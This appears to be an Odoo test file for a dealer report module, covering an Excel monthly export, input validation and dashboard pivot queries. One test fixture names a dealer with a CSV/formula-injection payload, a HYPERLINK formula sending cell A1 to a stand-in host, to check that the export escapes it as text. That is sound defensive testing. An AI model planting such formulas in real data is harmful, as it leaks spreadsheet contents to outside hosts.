import base64
import io
import json

import openpyxl

from odoo import Command, fields
from odoo.exceptions import ValidationError
from odoo.tests import tagged
from odoo.tools import file_open

from odoo.addons.dealer_report.tests.common import DealerReportCommon


@tagged("post_install", "-at_install")
class TestDashboardAndExport(DealerReportCommon):
    """This month: dealer A 3 × 100 = 300; a dealer named like a formula, B 2 × 50 = 100."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        now = fields.Datetime.now()
        cls.formula_dealer = cls._create_dealer('=HYPERLINK("http://x.example/?"&A1,"x")', cls.level_l1,
                                                cls.state_e2, parent=cls.branch)
        cls._authorize(cls.formula_dealer, cls.region_e2)
        cls.formula_dealer._dealer_grant_products(cls.items)
        cls._confirmed(cls.dealer, now, [(cls.item_a, 3, 100.0)])
        cls._confirmed(cls.formula_dealer, now, [(cls.item_b, 2, 50.0)])
        cls.Analysis.refresh(full=True)
        cls.dealer_user = cls.env["res.users"].with_context(no_reset_password=True).create({
            "name": "报表看板用户", "login": "rep_dashboard_user",
            "groups_id": [Command.set(cls.env.ref("dealer_base.group_dealer_user").ids)],
            "company_id": cls.company.id, "company_ids": [Command.set(cls.company.ids)],
        })
        with file_open("dealer_report/data/files/dealer_channel_dashboard.json") as handle:
            cls.dashboard_data = json.load(handle)

    def test_export_monthly_report(self):
        wizard = self.env["dealer.report.export"].with_user(self.dealer_user).create({})
        action = wizard.action_export()
        attachment = self.env["ir.attachment"].search([("res_model", "=", wizard._name), ("res_id", "=", wizard.id)])
        self.assertIn(str(attachment.id), action["url"])
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        self.assertEqual(book.sheetnames, ["Sales by Region", "Top Dealers", "Top Products", "Promotion Cost",
                                           "Credit Exposure", "Review KPIs", "Rebates"])
        regions = {row[0]: row[1] for row in book["Sales by Region"].iter_rows(min_row=4, values_only=True)}
        self.assertEqual(regions, {self.region_e1.display_name: 300.0, self.region_e2.display_name: 100.0})
        dealers = [row[:3] for row in book["Top Dealers"].iter_rows(min_row=4, values_only=True)]
        self.assertEqual(dealers[0], (self.dealer.display_name, self.dealer.dealer_code, 300.0))
        # a name that looks like a formula is written as text, neutralized
        self.assertEqual(dealers[1][0], "'" + self.formula_dealer.display_name)
        self.assertEqual(book["Top Dealers"].cell(5, 1).data_type, "s")
        exposure = {row[0]: row[2] for row in book["Credit Exposure"].iter_rows(min_row=4, values_only=True)}
        self.assertEqual(exposure[self.dealer.display_name], 100000.0)

    def test_export_bad_input(self):
        Export = self.env["dealer.report.export"]
        count = Export.search_count([])
        for top in (0, 1001, -5):
            with self.subTest(top=top), self.assertRaisesRegex(ValidationError, "between 1 and 1,000"), \
                    self.env.cr.savepoint():
                Export.create({"top": top})
        self.assertEqual(Export.search_count([]), count)

    def test_dashboard_definition_matches_the_models(self):
        filters = {f["id"] for f in self.dashboard_data["globalFilters"]}
        for pivot in self.dashboard_data["pivots"].values():
            Model = self.env[pivot["model"]]
            for measure in pivot["measures"]:
                if measure["fieldName"] != "__count":
                    self.assertTrue(Model._fields[measure["fieldName"]].store, measure)
            for row in pivot["rows"]:
                self.assertTrue(Model._fields[row["fieldName"]].store, row)
            self.assertEqual(set(pivot["fieldMatching"]), filters)
            for matching in pivot["fieldMatching"].values():
                if matching.get("chain"):
                    self.assertIn(matching["chain"].split(".")[0], Model._fields)

    def test_dashboard_formats_where_the_spreadsheet_reads_them(self):
        """From version 21 on, o-spreadsheet takes a cell's style and number format from its sheet's
        ``styles`` / ``formats`` and ignores them on the cell: the approval rate reads 85.0%, not 0.85."""
        self.assertGreaterEqual(self.dashboard_data["version"], 21)
        sheets = {sheet["name"]: sheet for sheet in self.dashboard_data["sheets"]}
        for sheet in sheets.values():
            for xc, cell in sheet["cells"].items():
                self.assertFalse({"style", "format"} & set(cell), f"{sheet['name']}!{xc}")
        data = sheets["Data"]
        rate = next(xc for xc, cell in data["cells"].items() if cell["content"] == '=_t("Auto-Approval Rate")')
        value = "B" + rate[1:]
        self.assertEqual(self.dashboard_data["formats"][str(data["formats"][value])], "0.0%")
        self.assertEqual(self.dashboard_data["formats"][str(data["formats"]["B1"])], "#,##0")
        titles = [xc for xc, cell in sheets["Dashboard"]["cells"].items() if cell["content"].startswith("=_t(")]
        self.assertTrue(titles)
        self.assertTrue(all(xc in sheets["Dashboard"]["styles"] for xc in titles))

    def test_dashboard_queries_for_a_dealer_user(self):
        """The dashboard's pivots as read_group calls, with the dealer user's rights."""
        dashboard = self.env.ref("dealer_report.spreadsheet_dashboard_dealer_channel")
        self.assertTrue(dashboard.with_user(self.dealer_user).has_access("read"))
        self.assertFalse(dashboard.with_user(self.salesperson).has_access("read"))
        month = fields.Date.today().replace(day=1)
        results = {}
        for pid, pivot in self.dashboard_data["pivots"].items():
            Model = self.env[pivot["model"]].with_user(self.dealer_user)
            domain = list(pivot["domain"])
            date = pivot["fieldMatching"][self.dashboard_data["globalFilters"][0]["id"]].get("chain")
            if date:
                domain.append((date, ">=", month))
            measures = [m["fieldName"] + (":sum" if m["fieldName"] != "__count" else "") for m in pivot["measures"]]
            groupby = [row["fieldName"] for row in pivot["rows"]]
            results[pid] = Model.read_group(domain, measures, groupby, lazy=False)
        by_region = {g["dealer_region_id"][0]: g["amount"] for g in results["1"]}
        self.assertEqual(by_region, {self.region_e1.id: 300.0, self.region_e2.id: 100.0})
        self.assertEqual(results["5"][0]["submitted_count"], 0)
        self.assertGreaterEqual(results["7"][0]["__count"], 5)
